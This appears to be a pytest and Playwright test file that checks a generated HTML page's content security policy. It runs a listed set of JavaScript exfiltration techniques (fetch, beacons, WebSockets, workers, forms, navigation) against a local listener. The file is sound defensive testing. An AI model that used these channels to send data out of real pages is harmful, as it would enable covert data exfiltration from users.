"""Nothing leaves the page. A page without the policy reaches a listener by every way that is tried; ours, by none.

The same hostile script runs in three places: in a control page, in our page itself, and in a report inside of it. In the last two it is put
there by the test: evidence cannot do that.

What counts is a byte that arrives. Chromium opens a connection for a frame before it asks the policy, and closes it again without a byte
(docs/page.md says so).
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.page.opened import opened

WAYS = {
    "fetch": "fetch(AT)",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', AT); x.send()",
    "beacon": "navigator.sendBeacon(AT, 'x')",
    "WebSocket": "new WebSocket(AT.replace('http', 'ws'))",
    "EventSource": "new EventSource(AT)",
    "image": "new Image().src = AT",
    "style": "add('link', {rel: 'stylesheet', href: AT})",
    "font": "new FontFace('f', `url(${AT})`).load()",
    "script": "add('script', {src: AT})",
    "module": "import(AT)",
    "audio": "new Audio(AT).load()",
    "video poster": "add('video', {poster: AT})",
    "object": "add('object', {data: AT, type: 'text/html'})",
    "frame": "add('iframe', {src: AT})",
    "navigation of a frame": "const f = add('iframe', {}); f.contentWindow.location = AT",
    "form": "const f = add('form', {action: AT, method: 'post', target: add('iframe', {name: 'into'}).name}); f.submit()",
    "prefetch": "add('link', {rel: 'prefetch', href: AT})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: AT})",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${AT}')`])))",
    "import in a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${AT}')`])))",
    "manifest": "add('link', {rel: 'icon', href: AT}); add('link', {rel: 'stylesheet', href: AT})",
    "navigation": "location.href = AT",
}
"""Each in its own page, so that one that navigates away hides no other."""

SCRIPT = """
const AT = "http://127.0.0.1:PORT/";
const add = (kind, values) => document.body.appendChild(Object.assign(document.createElement(kind), values));
try { WAY } catch (error) { console.log("refused", error) }
"""


class Listener:
    """Counts who sends anything, whatever it is."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._listen, args=(connection,), daemon=True).start()

    def _listen(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(5)
            if data := connection.recv(1000):
                self.heard.append(data)

    def close(self) -> None:
        self._socket.close()


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


def script(way: str, port: int) -> str:
    return SCRIPT.replace("WAY", WAYS[way]).replace("PORT", str(port))


def reached(browser: Browser, file: Path, listener: Listener, patience: int) -> bool:
    """Whether a byte arrived within so many tenths of a second after the page was opened."""
    with opened(browser, file, wait=False) as page:
        for _ in range(patience):
            if listener.heard:
                return True
            page.page.wait_for_timeout(100)
    return bool(listener.heard)


@pytest.fixture(scope="module")
def bare(built: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The page with its policy and its scripts, without Python: it opens at once."""
    text = built.read_text(encoding="utf-8")
    begin, end = text.index('<script type="text/plain" data-part='), text.index('<script type="application/json" id="facts">')
    return text[:begin] + text[end:]


@pytest.mark.parametrize("way", list(WAYS))
def test_a_page_without_the_policy_reaches_out(way: str, browser: Browser, tmp_path: Path) -> None:
    with listening() as listener:
        file = tmp_path / "control.html"
        file.write_text(f"<!DOCTYPE html><meta charset=utf-8><body><script>{script(way, listener.port)}</script>", encoding="utf-8")

        assert reached(browser, file, listener, patience=100)


@pytest.mark.parametrize("way", list(WAYS))
def test_ours_does_not(way: str, bare: str, browser: Browser, tmp_path: Path) -> None:
    with listening() as listener:
        file = tmp_path / "ours.html"
        file.write_text(bare.replace("</body>", f"<script>{script(way, listener.port)}</script></body>"), encoding="utf-8")

        assert not reached(browser, file, listener, patience=8)


@pytest.mark.parametrize("way", [*WAYS, "navigation of the page", "a new window", "refresh"])
def test_a_report_in_it_does_not(way: str, bare: str, browser: Browser, tmp_path: Path) -> None:
    with listening() as listener:
        address = f"http://127.0.0.1:{listener.port}/"
        more = {
            "navigation of the page": f"<script>top.location = '{address}'</script>",
            "a new window": f"<script>open('{address}')</script>",
            "refresh": f"<meta http-equiv=refresh content='0;url={address}'>",
        }
        report = f"<!DOCTYPE html><body>{more.get(way) or f'<script>{script(way, listener.port)}</script>'}"
        shown = report.replace("&", "&amp;").replace('"', "&quot;")
        file = tmp_path / "ours.html"
        frame = f'<iframe sandbox="allow-scripts" srcdoc="{shown}"></iframe>'
        file.write_text(bare.replace("</body>", f"{frame}</body>"), encoding="utf-8")

        assert not reached(browser, file, listener, patience=8)
